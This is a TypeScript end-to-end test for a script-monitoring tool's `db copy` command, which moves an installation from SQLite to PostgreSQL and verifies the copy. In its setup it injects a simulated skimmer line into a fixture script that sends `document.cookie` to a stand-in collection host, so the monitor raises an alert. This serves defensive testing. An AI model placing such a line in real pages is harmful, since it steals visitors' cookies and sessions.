// End to end: `db copy` moves an installation from its SQLite file to PostgreSQL, rows, ids and hashes, and the copy verifies and goes on.

import assert from 'node:assert/strict';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { COPY_ORDER } from '../../src/store/copy-database.js';
import type { Sql } from '../../src/store/sql.js';
import { parseJson, runCli, tempProject, writeConfig } from '../fixtures/cli.js';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import { createDatabase } from '../fixtures/postgres-cluster.js';
import { plainSql } from '../fixtures/test-database.js';
import { openSqlite } from '../../src/store/sqlite.js';
import { openPostgres } from '../../src/store/postgres.js';

const PAGE = '<!doctype html><html><body><form><input autocomplete="cc-number"></form><script src="/static/app.js"></script><script>window.ready = 1;</script></body></html>';
const cluster = () => process.env.SCRIPTWARDEN_TEST_POSTGRES!;

/** Every row of every table, in key order: what a copy must reproduce exactly. */
async function contents(db: Sql): Promise<Record<string, unknown[]>> {
  const out: Record<string, unknown[]> = {};
  for (const { table, key } of COPY_ORDER) {
    out[table] = (await db.prepare(`SELECT * FROM ${table} ORDER BY ${key}`).all()).map((row) =>
      Object.fromEntries(Object.entries(row as Record<string, unknown>).map(([k, v]) => [k, Buffer.isBuffer(v) ? v.toString('base64') : v])));
  }
  return out;
}

describe('db copy', () => {
  let site: FixtureSite;
  let dir: string;
  const cli = (args: string[]) => runCli(args, { cwd: dir });

  beforeAll(async () => {
    site = await startFixtureSite();
    site.set('merchant.test', '/pay', PAGE);
    site.set('merchant.test', '/static/app.js', 'window.app = 1;');
    dir = tempProject('sw-copy-');
    // An installation as this release makes it, on its SQLite file.
    const config = writeConfig(dir, [{ name: 'pay', url: site.url('merchant.test', '/pay') }], 'canary:\n  enabled: false');
    writeFileSync(config, readFileSync(config, 'utf8').replace(/^database: .*$/m, 'database: ./scriptwarden.db'));
    assert.equal((await cli(['scan'])).code, 0);
    assert.equal((await cli(['approve', '--all', '--by', 'alice', '--note', 'first baseline'])).code, 0);
    assert.equal((await runCli(['users', 'add', 'vera', '--role', 'approver', '--password-stdin'], { cwd: dir, input: 'a long enough passphrase\n' })).code, 0);
    site.set('merchant.test', '/static/app.js', `window.app = 1;\nnew Image().src = "${site.url('collect.test', '/c')}?" + document.cookie;`);
    const tampered = await cli(['scan']);
    assert.equal(tampered.code, 1, `the tampered script raises alerts, with evidence: ${tampered.stdout}${tampered.stderr}`);
    const alerts = parseJson<{ alerts: { id: number }[] }>(await cli(['alerts', '--json'])).alerts;
    assert.ok(alerts.length > 0);
    assert.equal((await cli(['reject', String(alerts[0]!.id), '--by', 'vera', '--note', 'skimmer'])).code, 0);
    site.set('merchant.test', '/static/app.js', 'window.app = 1;');
    assert.equal((await cli(['scan'])).code, 0);
  });
  afterAll(async () => { await site?.close(); });

  it('copies every row with its id and hash into an empty PostgreSQL database, verifies the copy, and the copy goes on', async () => {
    const url = await createDatabase(cluster());
    const copied = await cli(['db', 'copy', '--from', './scriptwarden.db', '--to', url, '--json']);
    assert.equal(copied.code, 0, copied.stderr);
    const report = parseJson<{ rows: number; verify: { ok: boolean; scans: number; auditEntries: number }; to: string }>(copied);
    assert.equal(report.verify.ok, true);
    assert.equal(report.verify.scans, 3);
    assert.ok(report.verify.auditEntries >= 3);
    assert.doesNotMatch(report.to, /passphrase/);

    const [source, copy] = [openSqlite(join(dir, 'scriptwarden.db')), openPostgres(url, { poolSize: 1 })];
    try {
      const [a, b] = [await contents(source), await contents(copy)];
      assert.ok((a.evidence ?? []).length > 0 && (a.alert_decisions ?? []).length > 0 && (a.audit_log ?? []).length > 0, 'the installation had evidence, decisions and audit entries');
      for (const { table } of COPY_ORDER) assert.deepEqual(b[table], a[table], table);
    } finally {
      await Promise.all([source.close(), copy.close()]);
    }

    // The installation moved: its config points at the copy, and the next scan and decision chain onto what was copied.
    const config = join(dir, 'scriptwarden.yml');
    writeFileSync(config, readFileSync(config, 'utf8').replace(/^database: .*$/m, 'database: env:SW_DATABASE'));
    const env = { ...process.env, SW_DATABASE: url };
    assert.equal((await runCli(['scan'], { cwd: dir, env })).code, 0);
    const open = parseJson<{ alerts: { id: number }[] }>(await runCli(['alerts', '--json', '--status', 'all'], { cwd: dir, env })).alerts;
    assert.ok(open.length > 0);
    const verified = await runCli(['verify'], { cwd: dir, env });
    assert.equal(verified.code, 0, verified.stdout);
    assert.match(verified.stdout, /OK: 4 scans follow the chain/);
  });

  it('refuses a target that is not empty, and says why', async () => {
    const url = await createDatabase(cluster());
    assert.equal((await cli(['db', 'copy', '--from', './scriptwarden.db', '--to', url])).code, 0);
    const again = await cli(['db', 'copy', '--from', './scriptwarden.db', '--to', url]);
    assert.equal(again.code, 2);
    assert.match(again.stderr, /is not empty \(\w+ has \d+ rows\)/);
    assert.doesNotMatch(again.stderr, /at .*\.js:\d+/, 'no stack trace');
    const missing = await cli(['db', 'copy', '--from', './nothing-here.db', '--to', url]);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /no database file/);
  });

  it('copies a database an older release made, migrated on the way, and the copy verifies', async () => {
    const older = join(tempProject('sw-copy-old-'), 'old.db');
    copyFileSync(new URL('../fixtures/release-db/scriptwarden-0.1.0.db', import.meta.url), older);
    const url = await createDatabase(cluster());
    const copied = await cli(['db', 'copy', '--from', older, '--to', url, '--json']);
    assert.equal(copied.code, 0, copied.stderr);
    const expected = JSON.parse(readFileSync(new URL('../fixtures/release-db/expected.json', import.meta.url), 'utf8')) as { verify: { scans: number } };
    assert.equal(parseJson<{ verify: { ok: boolean; scans: number } }>(copied).verify.scans, expected.verify.scans);
    const store = plainSql(url);
    assert.equal((await store.prepare<[], { n: number }>('SELECT COUNT(*) AS n FROM scans').get())!.n, expected.verify.scans);
    await store.close();
  });
});
